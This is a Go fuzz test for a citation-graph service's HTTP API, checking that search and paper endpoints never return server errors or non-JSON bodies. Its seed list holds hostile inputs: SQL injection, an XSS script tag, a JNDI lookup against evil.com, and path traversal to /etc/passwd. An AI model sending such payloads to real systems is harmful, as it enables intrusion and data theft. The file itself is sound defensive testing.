package httpserver

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/scholarsphere/citegraph-service/internal/domain"
)

// fuzzSeeds are hostile or unusual inputs for every query and path parameter.
var fuzzSeeds = []string{
	"",
	" ",
	",,,",
	"W2741809807",
	"https://openalex.org/W2741809807",
	"W1,W2,,W3",
	"machine learning, graphs|trees",
	"title:foo,abstract:bar",
	"'; DROP TABLE papers; --",
	"<script>alert('xss')</script>",
	"query\x00with\x00nulls",
	"query\nwith\nnewlines",
	"\u200B",
	"\uFEFF",
	"\u202Eright-to-left\u202C",
	string([]byte{0xfe, 0xff}),
	"${jndi:ldap://evil.com/a}",
	"../../etc/passwd",
	"%2F%2E%2E",
	strings.Repeat("a", maxQueryLength+1),
	strings.Repeat("W1,", 60),
}

// validatingPapers rejects malformed ids the way the paper service does.
func validatingPapers() *mockPaperService {
	return &mockPaperService{getPapersFn: func(_ context.Context, rawIDs []string) ([]domain.Paper, error) {
		for _, raw := range rawIDs {
			if id := domain.NormalizePaperID(raw); id != "" && !domain.IsValidPaperID(id) {
				return nil, domain.NewValidationError("id", "invalid paper ID")
			}
		}
		return []domain.Paper{}, nil
	}}
}

// FuzzAPIParameters checks that no query or path input produces a panic, a
// server error or a non-JSON body.
func FuzzAPIParameters(f *testing.F) {
	for _, seed := range fuzzSeeds {
		f.Add(seed)
	}

	srv := newTestHTTPServer(validatingPapers(), &mockGraphService{}, &mockSearchService{})

	f.Fuzz(func(t *testing.T, input string) {
		requests := []*http.Request{
			withQuery("/api/search", url.Values{"q": {input}}),
			withQuery("/api/search", url.Values{"q": {"graphs"}, "per_page": {input}}),
			withQuery("/api/search", url.Values{"q": {"graphs"}, "cursor": {input}}),
			withQuery("/api/papers", url.Values{"ids": {input}}),
			withPath("/api/paper/" + input),
		}

		for _, req := range requests {
			rr := serveHTTP(srv, req)

			if rr.Code >= http.StatusInternalServerError {
				t.Fatalf("%s %q: unexpected status %d", req.URL.Path, req.URL.RawQuery, rr.Code)
			}
			if ct := rr.Header().Get("Content-Type"); ct != "application/json" {
				t.Fatalf("%s: unexpected content type %q", req.URL.Path, ct)
			}
			if !json.Valid(rr.Body.Bytes()) {
				t.Fatalf("%s: response is not JSON: %q", req.URL.Path, rr.Body.String())
			}
		}
	})
}

// withQuery builds a request without going through URL parsing, which would
// reject some fuzzed inputs before they reach the router.
func withQuery(path string, values url.Values) *http.Request {
	req := httptest.NewRequest(http.MethodGet, path, nil)
	req.URL.RawQuery = values.Encode()
	return req
}

func withPath(path string) *http.Request {
	req := httptest.NewRequest(http.MethodGet, "/", nil)
	req.URL.Path = path
	req.URL.RawPath = ""
	return req
}
